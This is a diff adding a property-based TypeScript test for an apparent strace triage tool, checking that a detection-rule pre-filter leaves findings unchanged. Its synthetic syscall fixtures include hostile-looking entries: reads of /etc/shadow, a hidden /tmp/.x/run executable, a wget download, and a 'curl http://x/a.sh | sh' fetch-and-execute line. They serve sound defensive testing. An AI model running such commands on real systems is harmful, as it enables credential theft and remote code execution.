@@ -1,0 +1,126 @@
+// The tuple pre-filter (tuple-prefilter.ts) must only save work: triage with it finds exactly the
+// (rule, events) pairs it finds when every single-event rule reads every event in scope — over
+// real strace fixtures and over random calls built to hit the shipped rules and rules reading the
+// columns the pre-filter masks (ret, error, the process tree's image), with NULLs among them; in a
+// full run and in an incremental one after a second capture.
+import fc from 'fast-check';
+import { afterEach, beforeEach, expect, it } from 'vitest';
+import { importFile } from '../ingest/import-file.ts';
+import type { CanonicalEvent } from '../model/event.ts';
+import { CaseStore } from '../store/case-store.ts';
+import { sql } from '../store/sql.ts';
+import { fixture } from '../testing/corpus.ts';
+import { tempDir } from '../testing/temp.ts';
+import { loadRules, SHIPPED_RULES_DIR } from './rules-load.ts';
+import { runTriage } from './run.ts';
+import { parseRuleFile } from './sigma/parse.ts';
+import { addCapture, call } from './testing/build-case.ts';
+
+let dir: ReturnType<typeof tempDir>;
+beforeEach(() => {
+  dir = tempDir();
+});
+afterEach(() => dir.remove());
+
+/** Rules that read what the pre-filter keeps per op only (ret, error, image) or reads every op. */
+const MASKED_COLUMN_RULES = `
+title: open of a secret refused
+id: t-open-refused
+level: low
+detection:
+  sel:
+    op: [openat, open]
+    target|contains: secret
+    error: EACCES
+  condition: sel
+---
+title: read returning nothing by cat
+id: t-read-empty
+level: low
+detection:
+  sel:
+    op: read
+    ret: '0'
+    Image|endswith: /cat
+  condition: sel
+---
+title: any call naming a secret without an error
+id: t-any-secret
+level: low
+detection:
+  sel:
+    args|contains: secret
+  filter:
+    error: null
+  condition: sel and not filter
+`;
+
+const RULES = [...loadRules([SHIPPED_RULES_DIR]), ...parseRuleFile(MASKED_COLUMN_RULES, 'inline.yml')];
+
+async function pairs(store: CaseStore): Promise<string[]> {
+  const rows = await store.rows(sql`SELECT rule, CAST(list_sort(event_ids) AS VARCHAR) AS ids FROM findings`, { rule: 'str', ids: 'str' });
+  return rows.map((r) => `${r.rule} ${r.ids}`).sort();
+}
+
+/** Findings of a full run, then of an incremental run after `second` is added, with or without the pre-filter. */
+async function runBoth(path: string, first: (s: CaseStore) => Promise<number>, second: (s: CaseStore) => Promise<number>, noTuplePrefilter: boolean): Promise<{ full: string[]; incremental: string[] }> {
+  const store = await CaseStore.open(path);
+  try {
+    await first(store);
+    await runTriage(store, { rules: RULES, noTuplePrefilter });
+    const full = await pairs(store);
+    const id = await second(store);
+    await runTriage(store, { rules: RULES, noTuplePrefilter, captureIds: [id] });
+    return { full, incremental: await pairs(store) };
+  } finally {
+    store.close();
+  }
+}
+
+it('finds the same pairs with and without the pre-filter on strace fixtures, full and incremental', { timeout: 120_000 }, async () => {
+  const first = async (s: CaseStore): Promise<number> => (await importFile(s, fixture('strace/wget-mixed.txt'), { format: 'strace', date: '2026-11-26' })).capture_id;
+  const second = async (s: CaseStore): Promise<number> => (await importFile(s, fixture('strace/sh-f-mixed.txt'), { format: 'strace', date: '2026-11-26' })).capture_id;
+  const without = await runBoth(dir.file('without.duckdb'), first, second, true);
+  const withIt = await runBoth(dir.file('with.duckdb'), first, second, false);
+  expect(without.full.length).toBeGreaterThan(0); // the fixtures do fire single-event rules
+  expect(withIt).toEqual(without);
+});
+
+/** Calls that hit (or nearly hit) the rules above and a few shipped ones, NULLs included. */
+const CALLS: ((sec: number, pid: number) => CanonicalEvent)[] = [
+  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '-1', error: 'EACCES' }),
+  (sec, pid) => call(sec, pid, 'openat', '/etc/shadow', 'AT_FDCWD, "/etc/shadow", O_RDONLY', { ret: '3' }),
+  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '-1', error: 'EACCES' }),
+  (sec, pid) => call(sec, pid, 'openat', '/srv/secret.key', 'AT_FDCWD, "/srv/secret.key"', { ret: '4', error: null }),
+  (sec, pid) => call(sec, pid, 'openat', null, undefined, { args: null, ret: null }),
+  (sec, pid) => call(sec, pid, 'read', '/srv/secret.key', '3, "secret"..., 4096', { ret: '0' }),
+  (sec, pid) => call(sec, pid, 'read', '/etc/passwd', '3, "curl http://x/a.sh | sh\\n", 4096', { ret: '27' }),
+  (sec, pid) => call(sec, pid, 'read', null, undefined, { args: null, ret: '0' }),
+  (sec, pid) => call(sec, pid, 'write', '/tmp/secret', '1, "secret", 6', { ret: '-1', error: 'EPIPE' }),
+  (sec, pid) => call(sec, pid, 'execve', '/tmp/.x/run', '"/tmp/.x/run", ["run"], 0x7ff /* 7 vars */'),
+  (sec, pid) => call(sec, pid, 'execve', '/bin/cat', '"/bin/cat", ["cat", "/etc/shadow"], 0x7ff /* 7 vars */'),
+  (sec, pid) => call(sec, pid, 'execve', '/usr/bin/wget', '"/usr/bin/wget", ["wget", "http://x/y"], 0x7ff'),
+  (sec, pid) => call(sec, pid, 'clone', null, 'flags=SIGCHLD', { ret: String(pid + 1) }),
+];
+
+const capture = fc.array(fc.record({ sec: fc.integer({ min: 0, max: 120 }), pid: fc.integer({ min: 10, max: 14 }), call: fc.integer({ min: 0, max: CALLS.length - 1 }) }), { minLength: 1, maxLength: 30 });
+const toEvents = (spec: { sec: number; pid: number; call: number }[]): CanonicalEvent[] =>
+  spec.map((c) => (CALLS[c.call] as (sec: number, pid: number) => CanonicalEvent)(c.sec, c.pid)).sort((a, b) => a.ts_us - b.ts_us);
+
+it('finds the same pairs with and without the pre-filter over random calls, full and incremental', { timeout: 300_000 }, async () => {
+  let n = 0;
+  let withFindings = 0;
+  await fc.assert(
+    fc.asyncProperty(capture, capture, async (a, b) => {
+      n++;
+      const first = (s: CaseStore): Promise<number> => addCapture(s, toEvents(a), 'a.txt');
+      const second = (s: CaseStore): Promise<number> => addCapture(s, toEvents(b), 'b.txt');
+      const without = await runBoth(dir.file(`without-${n}.duckdb`), first, second, true);
+      const withIt = await runBoth(dir.file(`with-${n}.duckdb`), first, second, false);
+      expect(withIt).toEqual(without);
+      if (without.incremental.length > 0) withFindings++;
+    }),
+    { numRuns: 10, seed: 12 },
+  );
+  expect(withFindings).toBeGreaterThan(5); // the random calls do fire rules
+});
